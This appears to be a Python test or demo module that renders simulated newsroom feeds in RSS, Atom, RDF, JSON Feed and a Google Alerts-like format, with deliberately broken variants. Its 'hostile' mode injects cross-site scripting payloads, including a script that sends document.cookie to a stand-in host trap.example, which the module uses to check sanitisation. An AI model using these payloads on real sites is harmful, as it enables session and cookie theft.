"""The newsroom's feeds as bytes, in the formats and with the bad habits found in the wild."""

from __future__ import annotations

import json
from collections.abc import Sequence
from datetime import datetime
from email.utils import format_datetime
from urllib.parse import quote
from xml.sax.saxutils import escape

from commsleads.demo.newsroom import BRAND, ZONE, Feed, Item, markup

NAMESPACES = 'xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"'
RDF = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"
CONSENT = b"""<!doctype html>
<html lang="en"><head><title>Before you continue</title></head>
<body><h1>Your privacy matters to us and our 814 partners</h1>
<form method="post"><button>Accept all</button> <a href="/options">More options</a></form></body></html>
"""
TRAPS = (
    "<script>document.location='https://trap.example/?'+document.cookie</script>"
    '<img src="x" onerror="alert(1)"><a href="javascript:alert(2)">read on</a><iframe src="https://trap.example/"></iframe>'
)
"""What a hostile feed adds to its items: none of it may ever reach a reader's eyes or browser."""


def render(feed: Feed, items: Sequence[Item], *, broken: bool = False) -> tuple[str, bytes]:
    """The media type and the bytes of a feed that holds these items."""
    writers = {"rss": _rss, "rss-bare": _bare, "atom": _atom, "rdf": _rdf, "json": _json, "alert": _alert}
    media_type, text = writers[feed.format](feed, items)
    if broken:
        text = text.replace("&amp;", "&").replace("<description>", "<description>On air: ", 1)
        text = text.replace("</channel>", "<br></channel>")
    return media_type, text.encode()


def _rss(feed: Feed, items: Sequence[Item]) -> tuple[str, str]:
    entries = "".join(_rss_item(feed, item) for item in items)
    head = f"<title>{escape(feed.name)}</title><link>https://{feed.host}/</link><language>{feed.language}</language>"
    about = f"<description>{escape(feed.name)}, all news</description>"
    return "application/rss+xml", (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0" {NAMESPACES}><channel>{head}{about}'
        f"{entries}</channel></rss>\n"
    )


def _rss_item(feed: Feed, item: Item) -> str:
    title, body = item.title, markup(item, feed)
    if feed.hostile:
        title, body = f'<b onmouseover="alert(0)">{escape(title)}</b>', TRAPS + body
    summary = f"<description>{escape(item.text[0])}</description>"
    if feed.hostile or item.link:
        summary = f"<description>{escape(body)}</description>"
    elif len(item.text) > 1:
        summary += f"<content:encoded><![CDATA[{body}]]></content:encoded>"
    return (
        f"<item><title>{escape(title)}</title><link>{escape(item.url)}</link>"
        f'<guid isPermaLink="false">{feed.id}:{item.key}</guid>'
        f"<pubDate>{format_datetime(item.when.astimezone(ZONE))}</pubDate>{summary}</item>"
    )


def _bare(feed: Feed, items: Sequence[Item]) -> tuple[str, str]:
    # No guids and no zone: the address becomes the identity, and the date is read as UTC with a note.
    entries = "".join(
        f"<item><title>{escape(item.title)}</title><link>{escape(item.url)}</link>"
        f"<pubDate>{item.when:%Y-%m-%d %H:%M}</pubDate><description>{escape(markup(item, feed))}</description></item>"
        for item in items
    )
    return "text/xml", (
        f'<rss version="2.0"><channel><title>{escape(feed.name)}</title><link>https://{feed.host}/</link>'
        f"<description>Notices</description>{entries}</channel></rss>\n"
    )


def _atom(feed: Feed, items: Sequence[Item]) -> tuple[str, str]:
    entries = "".join(
        f"<entry><title>{escape(item.title)}</title><id>tag:{feed.host},2020:{item.key}</id>"
        f'<link rel="alternate" href="{escape(item.url)}"/><published>{_iso(item.when)}</published>'
        f"<updated>{_iso(item.edited or item.when)}</updated>"
        f'<content type="html">{escape(markup(item, feed))}</content></entry>'
        for item in items
    )
    updated = _iso(items[0].when) if items else "2020-01-01T00:00:00Z"
    return "application/atom+xml", (
        f'<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="{feed.language}">'
        f"<title>{escape(feed.name)}</title><id>https://{feed.host}/</id><updated>{updated}</updated>"
        f'<link href="https://{feed.host}/"/>{entries}</feed>\n'
    )


def _rdf(feed: Feed, items: Sequence[Item]) -> tuple[str, str]:
    order = "".join(f'<rdf:li rdf:resource="{escape(item.url)}"/>' for item in items)
    entries = "".join(
        f'<item rdf:about="{escape(item.url)}"><title>{escape(item.title)}</title><link>{escape(item.url)}</link>'
        f"<dc:date>{_iso(item.when)}</dc:date><description>{escape(markup(item, feed))}</description></item>"
        for item in items
    )
    return "application/rdf+xml", (
        f'<?xml version="1.0" encoding="utf-8"?>\n<rdf:RDF xmlns="http://purl.org/rss/1.0/" xmlns:rdf="{RDF}" '
        f'{NAMESPACES}><channel rdf:about="https://{feed.host}/"><title>{escape(feed.name)}</title>'
        f"<link>https://{feed.host}/</link><description>{escape(feed.name)}</description>"
        f"<items><rdf:Seq>{order}</rdf:Seq></items></channel>{entries}</rdf:RDF>\n"
    )


def _json(feed: Feed, items: Sequence[Item]) -> tuple[str, str]:
    entries = [
        {
            "id": f"{feed.id}/{item.key}",
            "url": item.url,
            "title": item.title,
            "content_html": markup(item, feed),
            "date_published": _iso(item.when),
        }
        for item in items
    ]
    document = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": feed.name,
        "home_page_url": f"https://{feed.host}/",
        "language": feed.language,
        "items": entries,
    }
    return "application/feed+json", json.dumps(document, ensure_ascii=False, indent=1)


def _alert(feed: Feed, items: Sequence[Item]) -> tuple[str, str]:
    # The form search engines send: titles and snippets in HTML with the hits in bold, links wrapped in a redirect.
    entries = "".join(
        f"<entry><id>tag:google.com,2013:googlealerts/feed:{item.key}</id>"
        f'<title type="html">{escape(_bold(item.title))}</title>'
        f'<link href="https://www.google.com/url?rct=j&amp;sa=t&amp;url={quote(item.url, safe="")}&amp;ct=ga"/>'
        f"<published>{_iso(item.when)}</published><updated>{_iso(item.when)}</updated>"
        f'<content type="html">{escape(_bold(item.text[0]))}</content><author><name/></author></entry>'
        for item in items
    )
    return "application/atom+xml", (
        '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">'
        f"<id>tag:google.com,2005:reader/user/0/state/com.google/alerts/0</id><title>{escape(feed.name)}</title>"
        f"<updated>{_iso(items[0].when) if items else '2020-01-01T00:00:00Z'}</updated>{entries}</feed>\n"
    )


def _bold(text: str) -> str:
    return escape(text).replace(BRAND, f"<b>{BRAND}</b>")


def _iso(when: datetime) -> str:
    return f"{when:%Y-%m-%dT%H:%M:%SZ}"
